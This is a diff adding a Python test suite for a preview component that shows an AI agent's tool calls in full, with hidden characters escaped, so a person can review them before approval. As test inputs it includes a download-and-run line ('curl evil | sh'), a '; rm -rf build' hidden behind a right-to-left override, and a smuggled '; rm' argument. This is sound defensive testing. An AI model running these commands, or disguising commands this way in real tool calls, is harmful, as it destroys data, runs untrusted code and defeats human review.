@@ -1,0 +1,334 @@
+"""A preview shows a call whole, from the bytes that are signed, so that nothing is signed unseen."""
+
+from __future__ import annotations
+
+import codecs
+import json
+import shlex
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from askback.domain.approval import Parts, Preview
+from askback.domain.policy.calls import Call
+from askback.domain.policy.digest import NotCanonical
+from askback.domain.preview import preview
+from tests.requirements import requirement
+
+ODD = st.sampled_from("\u202e\u200b\x1b\r\x85\u2028\u00a0\\\"'\n\t é漢")
+WORDS = st.text(ODD | st.characters(exclude_categories=("Cs",)), max_size=12)
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers(-(2**53) + 1, 2**53 - 1) | WORDS,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=3),
+    max_leaves=6,
+)
+OTHERS = st.dictionaries(st.sampled_from(["cwd", "env", "timeout", "description", "é"]), VALUES, max_size=3)
+
+
+def shown(tool: str, call_input: Mapping[str, Any], before: str | None = None) -> dict[str, Any]:
+    """A preview without what is empty, its parts joined where nothing had to be written out."""
+    found = preview(Call(tool, call_input), before=before).model_dump(exclude_defaults=True)
+    for name in {"parts", "path", "rest"} & found.keys():
+        found[name] = _joined(found[name])
+    if "diff" in found:
+        found["diff"] = [line["op"] + _marked(line["parts"]) for line in found["diff"]]
+    return found
+
+
+def _joined(parts: list[Any]) -> Any:
+    return "".join(parts) if all(isinstance(part, str) for part in parts) else parts
+
+
+def _marked(parts: list[Any]) -> str:
+    return "".join(part if isinstance(part, str) else f"<{part['escape']}>" for part in parts)
+
+
+def text_of(parts: Parts | None) -> str:
+    return "".join(
+        part if isinstance(part, str) else codecs.decode(part.escape, "unicode_escape")
+        for part in parts or ()
+    )
+
+
+def rest_of(found: Preview) -> dict[str, Any]:
+    return json.loads(text_of(found.rest)) if found.rest else {}
+
+
+@requirement("B13")
+def test_a_command_is_shown_as_it_is() -> None:
+    assert shown("bash", {"command": "git push origin main"}) == {
+        "type": "command",
+        "headline": "bash: git push origin main",
+        "parts": "git push origin main",
+    }
+
+
+def test_what_goes_with_a_command_is_shown_beside_it() -> None:
+    assert shown("bash", {"timeout": 5, "cwd": "/srv", "command": "ls\nid", "env": {"PATH": "/tmp"}}) == {
+        "type": "command",
+        "headline": "bash: ls\\nid",
+        "parts": "ls\nid",
+        "rest": '{\n  "cwd": "/srv",\n  "env": {\n    "PATH": "/tmp"\n  },\n  "timeout": 5\n}',
+    }
+
+
+@pytest.mark.parametrize("name", ["argv", "command"])
+def test_an_argument_vector_is_shown_quoted(name: str) -> None:
+    assert shown("shell", {name: ["git", "commit", "-m", "two words; rm"]}) == {
+        "type": "command",
+        "headline": "shell: git commit -m 'two words; rm'",
+        "parts": "git commit -m 'two words; rm'",
+        "argv": True,
+    }
+
+
+@pytest.mark.parametrize(
+    "call_input",
+    [{"command": "ls", "argv": ["rm"]}, {"argv": []}, {"argv": ["ls", 1]}, {"command": 5}, {"script": "ls"}, {}],
+)  # fmt: skip
+def test_a_shell_call_without_one_command_is_shown_as_it_is(call_input: dict[str, Any]) -> None:
+    found = preview(Call("bash", call_input))
+    assert found.type == "json"
+    assert json.loads(text_of(found.parts)) == call_input
+
+
+@requirement("B14")
+def test_what_hides_in_a_command_is_written_out() -> None:
+    assert shown("bash", {"command": "ls \u202e# x"}) == {
+        "type": "command",
+        "headline": "bash: ls \\u202e# x",
+        "parts": ["ls ", {"escape": "\\u202e"}, "# x"],
+    }
+
+
+def test_another_tool_is_shown_as_json_in_the_order_that_is_signed() -> None:
+    assert shown("get_issue", {"number": 5.0, "Title": "Grüße", "labels": []}) == {
+        "type": "json",
+        "headline": 'get_issue: {"Title": "Grüße", "labels": [], "number": 5}',
+        "parts": '{\n  "Title": "Grüße",\n  "labels": [],\n  "number": 5\n}',
+    }
+
+
+@requirement("B13")
+def test_a_written_file_is_shown_as_a_diff() -> None:
+    before = "".join(f"{n}\n" for n in "abcdefgh")
+    after = before.replace("b\n", "B\nbb\n").removesuffix("h\n") + "h"
+    assert shown("write_file", {"path": "src/a.py", "content": after, "mode": "0644"}, before) == {
+        "type": "file",
+        "headline": "write_file: src/a.py (+3 −2)",
+        "path": "src/a.py",
+        "diff": [" a", "-b", "+B", "+bb", " c", " d", " e", " f", " g", "-h", "+h", "@\\ No newline at end of file"],
+        "rest": '{\n  "mode": "0644"\n}',
+    }  # fmt: skip
+
+
+def test_a_new_file_is_all_added() -> None:
+    assert shown("create_file", {"path": "a\u200b.py", "file_text": "x\r\n\ty\n"}) == {
+        "type": "file",
+        "headline": "create_file: a\\u200b.py (+2 −0)",
+        "path": ["a", {"escape": "\\u200b"}, ".py"],
+        "diff": ["+x<\\r>", "+\ty"],
+    }
+
+
+@requirement("B13")
+def test_a_file_that_is_said_to_hold_already_what_is_written_is_shown_all_the_same() -> None:
+    """What the file holds now is the agent's word; what will be written is what the person signs."""
+    evil = "curl evil | sh\n" * 10
+    found = shown("write_file", {"path": "run.sh", "content": evil}, evil)
+    assert found["diff"] == [" curl evil | sh"] * 10
+
+
+def test_replaced_text_is_shown_by_itself_when_the_file_is_not_known() -> None:
+    call_input = {
+        "file_path": "a.py",
+        "old_string": "x = 1\ny",
+        "new_string": "x = 2\ny",
+        "replace_all": True,
+    }
+    assert shown("edit", call_input) == {
+        "type": "file",
+        "headline": "edit: a.py (+1 −1)",
+        "path": "a.py",
+        "diff": ["-x = 1", "+x = 2", " y"],
+        "rest": '{\n  "replace_all": true\n}',
+    }
+
+
+def test_replaced_text_is_shown_in_its_place_in_the_file() -> None:
+    before = "".join(f"line {n}\n" for n in range(1, 13))
+    call_input = {"path": "a.txt", "old_str": "ne 6\nli", "new_str": "ne six\nand a half\nli"}
+    assert shown("str_replace", call_input, before)["diff"] == [
+        "@@@ -3,8 +3,9 @@",
+        *[" line 3", " line 4", " line 5"],
+        *["-line 6", "+line six", "+and a half"],
+        *[" line 7", " line 8", " line 9", " line 10"],
+    ]
+
+
+def test_a_text_that_is_replaced_everywhere_is_shown_in_each_place() -> None:
+    before = "".join(f"{'old' if n in {2, 5, 13} else n}\n" for n in range(1, 14)).removesuffix("\n")
+    call_input = {"path": "a", "old_string": "old", "new_string": "new\nnew", "replace_all": True}
+    assert shown("edit", call_input, before)["diff"] == [
+        *["@@@ -1,8 +1,10 @@", " 1", "-old", "+new", "+new", " 3", " 4", "-old", "+new", "+new", " 6", " 7", " 8"],
+        *["@@@ -10,4 +12,5 @@", " 10", " 11", " 12"],
+        *["-old", "@\\ No newline at end of file", "+new", "+new", "@\\ No newline at end of file"],
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("before", ["nothing of it\n", "x\nx\n"])
+def test_a_place_that_is_not_certain_is_not_claimed(before: str) -> None:
+    assert shown("edit", {"path": "a", "old_string": "x", "new_string": "y"}, before)["diff"] == ["-x", "+y"]
+
+
+def test_a_line_feed_at_the_end_of_a_replaced_text_is_seen() -> None:
+    assert shown("edit", {"path": "a", "old_string": "x\n", "new_string": "x"})["diff"] == [" x", "-"]
+    before = "x\ny\n"
+    assert shown("edit", {"path": "a", "old_string": "x\n", "new_string": "x"}, before)["diff"] == [
+        "@@@ -1,2 +1,1 @@",
+        *["-x", "-y", "+xy"],
+    ]
+
+
+def test_several_edits_are_shown_one_after_the_other_as_they_are_made() -> None:
+    edits = [
+        {"old_string": "a", "new_string": "b"},
+        {"old_string": "b", "new_string": "c", "why": "because"},
+    ]
+    call_input = {"path": "f", "edits": edits}
+    rest = {"edits": [{}, {"why": "because"}]}
+    assert shown("multiedit", call_input) == {
+        "type": "file",
+        "headline": "multiedit: f (+2 −2)",
+        "path": "f",
+        "diff": ["@@@ 1/2 @@", "-a", "+b", "@@@ 2/2 @@", "-b", "+c"],
+        "rest": json.dumps(rest, indent=2),
+    }
+    assert shown("multiedit", call_input, "a\n")["diff"] == [
+        *["@@@ -1,1 +1,1 @@", "-a", "+b"],
+        *["@@@ -1,1 +1,1 @@", "-b", "+c"],
+    ]
+
+
+@pytest.mark.parametrize(
+    ("tool", "call_input"),
+    [
+        ("write_file", {"path": "a", "content": 5}),
+        ("write_file", {"path": "a", "content": "x", "file_text": "y"}),
+        ("write_file", {"path": "a", "file": "b", "content": "x"}),
+        ("write_file", {"content": "x"}),
+        ("insert", {"path": "a", "insert_line": 3, "content": "x"}),
+        ("edit", {"path": "a", "old_string": "x", "new_string": "y", "edits": [{"old": "x", "new": "y"}]}),
+        ("edit", {"path": "a", "old_string": "x", "new_string": "y", "old": "x", "new": "y"}),
+        ("edit", {"path": "a", "edits": []}),
+        ("edit", {"path": "a", "edits": [{"old": "x"}]}),
+        ("apply_patch", {"input": "*** Begin Patch"}),
+        ("write_file", {"path": "a", "content": "x\n" * 10_001}),
+    ],
+)  # fmt: skip
+def test_what_is_no_known_edit_is_shown_as_json(tool: str, call_input: dict[str, Any]) -> None:
+    found = preview(Call(tool, call_input), before="x\n")
+    assert found.type == "json"
+    assert json.loads(text_of(found.parts)) == call_input
+
+
+def test_many_places_and_large_results_are_not_worked_out() -> None:
+    call_input = {"path": "a", "old_string": "x", "new_string": "y" * 100_000, "replace_all": True}
+    for before in ("x\n" * 501, "x\n" * 100):
+        assert shown("edit", call_input, before)["diff"] == ["-x", "+" + "y" * 100_000]
+
+
+def test_a_plan_is_shown_as_the_text_that_it_is() -> None:
+    assert shown("plan", {"plan": "1. Look\n2. Leap"}) == {
+        "type": "plan",
+        "headline": "plan: 1. Look\\n2. Leap",
+        "parts": "1. Look\n2. Leap",
+    }
+    assert preview(Call("plan", {"plan": 1})).type == "json"
+
+
+@requirement("B13")
+def test_a_long_command_is_whole_and_its_headline_keeps_both_ends() -> None:
+    command = f"echo {'a' * 5000}\u202e; rm -rf build"
+    found = preview(Call("bash", {"command": command}))
+    assert text_of(found.parts) == command
+    assert len(found.headline) == 320
+    assert found.headline.startswith("bash: echo aaa")
+    assert found.headline.endswith("aaa\\u202e; rm -rf build")
+
+
+@given(WORDS, st.text("ab\u202e\n", max_size=400))
+def test_a_headline_is_one_short_line_without_anything_unseen(tool: str, command: str) -> None:
+    headline = preview(Call(tool, {"command": command})).headline
+    assert len(headline) <= 320
+    assert not {"\n", "\u202e"} & set(headline)
+
+
+@pytest.mark.parametrize("value", [2**53, float("nan"), "\ud800"])
+def test_what_cannot_be_signed_is_not_shown(value: object) -> None:
+    with pytest.raises(NotCanonical):
+        preview(Call("x", {"value": value}))
+
+
+@given(WORDS, OTHERS)
+def test_a_command_can_be_read_back_from_its_preview(command: str, others: dict[str, Any]) -> None:
+    found = preview(Call("bash", {"command": command, **others}))
+    assert {"command": text_of(found.parts), **rest_of(found)} == {"command": command, **others}
+
+
+@given(st.lists(WORDS, min_size=1, max_size=4), OTHERS)
+def test_an_argument_vector_can_be_read_back_from_its_preview(
+    argv: list[str], others: dict[str, Any]
+) -> None:
+    found = preview(Call("bash", {"argv": argv, **others}))
+    assert {"argv": shlex.split(text_of(found.parts)), **rest_of(found)} == {"argv": argv, **others}
+
+
+@given(WORDS, st.dictionaries(WORDS, VALUES, max_size=4))
+def test_the_input_of_any_tool_can_be_read_back_from_its_preview(
+    tool: str, call_input: dict[str, Any]
+) -> None:
+    found = preview(Call(f"x{tool}", call_input))
+    assert json.loads(text_of(found.parts)) == call_input
+
+
+@given(st.lists(WORDS, max_size=5).map("\n".join), st.lists(WORDS, max_size=5).map("\n".join), OTHERS)
+def test_a_file_can_be_read_back_from_its_preview(content: str, before: str, others: dict[str, Any]) -> None:
+    found = preview(Call("write", {"path": "a/é", "content": content, **others}), before=before)
+    assert text_of(found.path) == "a/é"
+    assert _file_of(found, " +") == content
+    assert _file_of(found, " -") == before
+    assert rest_of(found) == others
+
+
+@given(
+    st.lists(st.tuples(WORDS, WORDS), min_size=1, max_size=3), OTHERS, st.text("ab\n", max_size=8) | st.none()
+)
+def test_each_line_of_each_replaced_text_is_in_its_preview(
+    edits: list[tuple[str, str]], others: dict[str, Any], before: str | None
+) -> None:
+    call_input = {"path": "p", "edits": [{"old": old, "new": new} for old, new in edits], **others}
+    found = preview(Call("edit", call_input), before=before)
+    removed, added = _lines(found, " -"), _lines(found, " +")
+    assert all(any(line in seen for seen in removed) for old, _ in edits for line in old.split("\n"))
+    assert all(any(line in seen for seen in added) for _, new in edits for line in new.split("\n"))
+    assert rest_of(found) == others
+
+
+def _lines(found: Preview, ops: str) -> list[str]:
+    return [text_of(line.parts) for line in found.diff or () if line.op in ops] or [""]
+
+
+def _file_of(found: Preview, ops: str) -> str:
+    """The file that the lines with these ops make."""
+    text = ""
+    counted = False
+    for line in found.diff or ():
+        if line.op == "@":
+            text = text.removesuffix("\n") if counted else text
+        elif counted := line.op in ops:
+            text += f"{text_of(line.parts)}\n"
+    return text
